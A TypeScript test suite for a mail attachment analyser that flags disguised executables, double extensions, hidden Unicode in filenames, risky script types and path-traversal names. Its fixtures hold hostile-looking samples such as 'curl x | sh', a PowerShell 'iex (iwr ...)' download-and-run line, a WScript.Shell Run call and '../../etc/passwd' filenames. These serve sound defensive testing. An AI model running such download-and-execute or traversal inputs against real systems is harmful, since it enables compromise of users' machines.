import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeAttachments } from './index.js';
import { detectFileKind } from './file-type.js';
import { examineName } from './file-name.js';
import { codesOf, encode, mailWith } from './test-fixtures.js';

/** A minimal DOS/PE header: "MZ", padding, and a PE signature at 0x40. */
function portableExecutable(): Uint8Array {
  const bytes = new Uint8Array(512);
  bytes.set([0x4d, 0x5a]);
  bytes[0x3c] = 0x40;
  bytes.set([0x50, 0x45, 0x00, 0x00], 0x40);
  return bytes;
}

function withHead(head: readonly number[], at = 0, size = 64): Uint8Array {
  const bytes = new Uint8Array(Math.max(size, at + head.length));
  bytes.set(head, at);
  return bytes;
}

test('real types are detected from magic bytes', () => {
  const ascii = (s: string): number[] => Array.from(s, (c) => c.charCodeAt(0));
  const cases: readonly [Uint8Array, string][] = [
    [portableExecutable(), 'pe'],
    [withHead([0x7f, 0x45, 0x4c, 0x46]), 'elf'],
    [withHead([0xcf, 0xfa, 0xed, 0xfe]), 'macho'],
    [withHead([0x50, 0x4b, 0x03, 0x04]), 'zip'],
    [withHead([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'ole'],
    [encode('%PDF-1.7\n'), 'pdf'],
    [withHead(ascii('Rar!\u001a\u0007\u0000')), 'rar'],
    [withHead([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), '7z'],
    [withHead(ascii('CD001'), 0x8001), 'iso'],
    [withHead(ascii('MSCF')), 'cab'],
    [withHead([0x4c, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00]), 'lnk'],
    [encode('<!DOCTYPE html><html><body>hi</body></html>'), 'html'],
    [encode('\uFEFF  <script>alert(1)</script>'), 'html'],
    [encode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'svg'],
    [encode('#!/bin/sh\ncurl x | sh\n'), 'script'],
    [withHead([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'png'],
    [withHead([0xff, 0xd8, 0xff, 0xe0]), 'jpeg'],
    [encode('just some words'), 'unknown'],
    [encode('MZ'), 'unknown'],
  ];
  for (const [bytes, kind] of cases) assert.equal(detectFileKind(bytes), kind, `expected ${kind}`);
});

test('a double extension hiding an executable is flagged', () => {
  const findings = analyzeAttachments(mailWith([{ filename: 'invoice.pdf.exe', content: portableExecutable() }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.double_extension'), codes.join());
  assert.ok(codes.includes('attachment.executable'));
  assert.ok(!codes.includes('attachment.disguised_executable'));
  const padded = analyzeAttachments(mailWith([{ filename: 'statement.pdf                         .scr', content: portableExecutable() }]));
  assert.ok(codesOf(padded).includes('attachment.double_extension'));
  const benign = analyzeAttachments(mailWith([{ filename: 'annual.report.2024.pdf', content: encode('%PDF-1.4\n%%EOF') }]));
  assert.deepEqual(codesOf(benign).filter((c) => c !== 'attachment.pdf_links'), []);
});

test('a right-to-left override in the name is flagged and spelled out', () => {
  const name = 'invoice_\u202Efdp.exe';
  const findings = analyzeAttachments(mailWith([{ filename: name, content: portableExecutable() }]));
  const reason = findings.reasons.find((r) => r.code === 'attachment.rtlo_filename');
  assert.ok(reason !== undefined, codesOf(findings).join());
  assert.match(reason.summary, /<U\+202E>/u);
  const zeroWidth = analyzeAttachments(mailWith([{ filename: 'pay\u200Broll.pdf', content: encode('%PDF-1.4') }]));
  assert.ok(codesOf(zeroWidth).includes('attachment.invisible_characters'));
});

test('an executable disguised as a document is flagged, whatever the declared type', () => {
  const findings = analyzeAttachments(mailWith([{ filename: 'scan_0042.pdf', content: portableExecutable(), contentType: 'application/pdf' }]));
  const reason = findings.reasons.find((r) => r.code === 'attachment.disguised_executable');
  assert.ok(reason !== undefined, codesOf(findings).join());
  assert.match(reason.summary, /\.pdf/u);
  assert.ok(codesOf(findings).includes('attachment.executable'));
  const noExtension = analyzeAttachments(mailWith([{ filename: 'document', content: portableExecutable(), contentType: 'application/pdf' }]));
  assert.ok(codesOf(noExtension).includes('attachment.disguised_executable'));
});

test('an extension that disagrees with the content is a type mismatch', () => {
  const findings = analyzeAttachments(mailWith([{ filename: 'photo.jpg', content: encode('%PDF-1.4\n%%EOF') }]));
  assert.ok(codesOf(findings).includes('attachment.type_mismatch'), codesOf(findings).join());
  const honest = analyzeAttachments(mailWith([{ filename: 'doc.pdf', content: encode('%PDF-1.4\n%%EOF') }]));
  assert.ok(!codesOf(honest).includes('attachment.type_mismatch'));
});

test('risky types are flagged by extension and by content', () => {
  const cases: readonly [string, Uint8Array, string][] = [
    ['update.js', encode('var s = new ActiveXObject("WScript.Shell");'), 'attachment.script'],
    ['run.vbs', encode('CreateObject("WScript.Shell").Run "calc"'), 'attachment.script'],
    ['fix.ps1', encode('iex (iwr http://x)'), 'attachment.script'],
    ['go.bat', encode('@echo off'), 'attachment.script'],
    ['view.hta', encode('<html><hta:application/></html>'), 'attachment.script'],
    ['job.wsf', encode('<job><script language="VBScript"></script></job>'), 'attachment.script'],
    ['disk.img', new Uint8Array(100), 'attachment.disk_image'],
    ['disk.vhd', new Uint8Array(100), 'attachment.disk_image'],
    ['Invoice.lnk', withHead([0x4c, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00]), 'attachment.shortcut'],
    ['notes.one', new Uint8Array(100), 'attachment.onenote'],
    ['help.chm', withHead(Array.from('ITSF', (c) => c.charCodeAt(0))), 'attachment.help_file'],
    ['setup.msi', new Uint8Array(100), 'attachment.installer'],
    ['screen.scr', portableExecutable(), 'attachment.executable'],
    ['data.dat', portableExecutable(), 'attachment.executable'],
    ['deploy.sh', encode('echo hi'), 'attachment.unix_script'],
    ['sortfolders', encode('#!/bin/tcsh -f\necho'), 'attachment.unix_script'],
    ['Liberalism.url', encode('[InternetShortcut]\r\nURL=https://example.org/\r\n'), 'attachment.internet_shortcut'],
  ];
  for (const [name, content, code] of cases) {
    const codes = codesOf(analyzeAttachments(mailWith([{ filename: name, content }])));
    assert.ok(codes.includes(code), `${name}: ${codes.join()}`);
  }
  const plain = codesOf(analyzeAttachments(mailWith([{ filename: 'notes.txt', content: encode('hello') }])));
  assert.deepEqual(plain, []);
  // A shell script is far less dangerous by mail than a script Windows runs on a double-click.
  const weightOf = (name: string, text: string): number => analyzeAttachments(mailWith([{ filename: name, content: encode(text) }])).reasons.reduce((sum, r) => sum + r.weight, 0);
  assert.ok(weightOf('rotate', '#!/usr/bin/perl\nprint 1;') < weightOf('rotate.js', '#!/usr/bin/perl\nprint 1;'));
});

test('a name with a path is reported and never used as one', () => {
  const findings = analyzeAttachments(mailWith([{ filename: '../../etc/passwd', content: encode('root:x:0:0') }]));
  const reason = findings.reasons.find((r) => r.code === 'attachment.path_in_filename');
  assert.ok(reason !== undefined);
  assert.deepEqual(reason.source, { kind: 'attachment', filename: '../../etc/passwd', index: 0 });
  assert.ok(codesOf(analyzeAttachments(mailWith([{ filename: '..\\..\\Windows\\evil.dll', content: portableExecutable() }]))).includes('attachment.path_in_filename'));
  assert.equal(examineName('C:\\temp\\a.PDF.exe').extension, 'exe');
  assert.equal(examineName('C:\\temp\\a.PDF.exe').innerExtension, 'pdf');
});

test('links in calendar invites and scripts go to the URL analyser', () => {
  const ics = 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Review your payroll at https://payroll.example-bad.test/review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';
  const script = 'var u = "http://203.0.113.5/stage2.txt"; WScript.Echo(u);';
  const findings = analyzeAttachments(mailWith([
    { filename: 'invite.ics', content: encode(ics), contentType: 'text/calendar' },
    { filename: 'run.js', content: encode(script) },
  ]));
  assert.deepEqual(findings.urls, ['https://payroll.example-bad.test/review', 'http://203.0.113.5/stage2.txt']);
  assert.ok(codesOf(analyzeAttachments(mailWith([{ filename: 'mail.mobileconfig', content: encode('<plist/>') }]))).includes('attachment.installer'));
});

test('links in a forwarded message attachment are collected through quoted-printable', () => {
  const eml = 'From: a@b.test\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<html><body><a href=3D"https://verify.example-bad=\r\n.test/login?id=3D7">Verify</a></body></html>\r\n';
  const findings = analyzeAttachments(mailWith([{ filename: 'FW: urgent.eml', content: encode(eml), contentType: 'message/rfc822' }]));
  assert.deepEqual(findings.urls, ['https://verify.example-bad.test/login?id=7']);
  assert.deepEqual(codesOf(findings), []);
});
